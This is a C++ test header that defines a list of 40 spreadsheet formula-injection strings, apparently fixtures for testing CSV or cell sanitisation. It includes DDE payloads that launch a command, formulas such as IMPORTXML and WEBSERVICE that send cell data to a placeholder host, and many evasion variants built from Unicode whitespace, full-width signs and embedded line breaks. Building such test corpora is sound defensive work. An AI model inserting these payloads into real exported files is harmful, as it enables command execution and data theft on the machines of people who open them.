#pragma once

#include <array>
#include <string_view>

namespace guanwu::test {

/// Texts that a spreadsheet may take for a formula, a command or a link.
inline constexpr std::array<std::string_view, 40> kFormulaPayloads {
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://x.invalid\",\"open\")",
    "=IMPORTXML(CONCAT(\"http://x.invalid/\",A1),\"//a\")",
    "=WEBSERVICE(\"http://x.invalid\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "@cmd|' /C calc'!A0",
    "\t=1+1",
    "\tplain",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "  =1+1",
    " +1",
    "\u00A0=1+1",
    "\u00A0\u00A0@x",
    "\uFEFF=1+1",
    "\uFEFF \u00A0-1",
    "\u3000=1+1",
    "\u200B=1+1",
    "\uFF1D1+1",
    "\uFF0B1+1",
    "\uFF0D1+1",
    "\uFF20SUM(1)",
    " \uFF1D1+1",
    "first line\n=1+1",
    "first line\r\n=1+1",
    "first line\r@x",
    "first line\n  =1+1",
    "first line\n\u00A0+1",
    "first line\n\t=1+1",
    "a\",=1+1,\"b\n=1",
    "=\"a\"&\",\"&\"b\"",
    "-\"x\"",
    "\u2212\u0031+1",
};

} // namespace guanwu::test
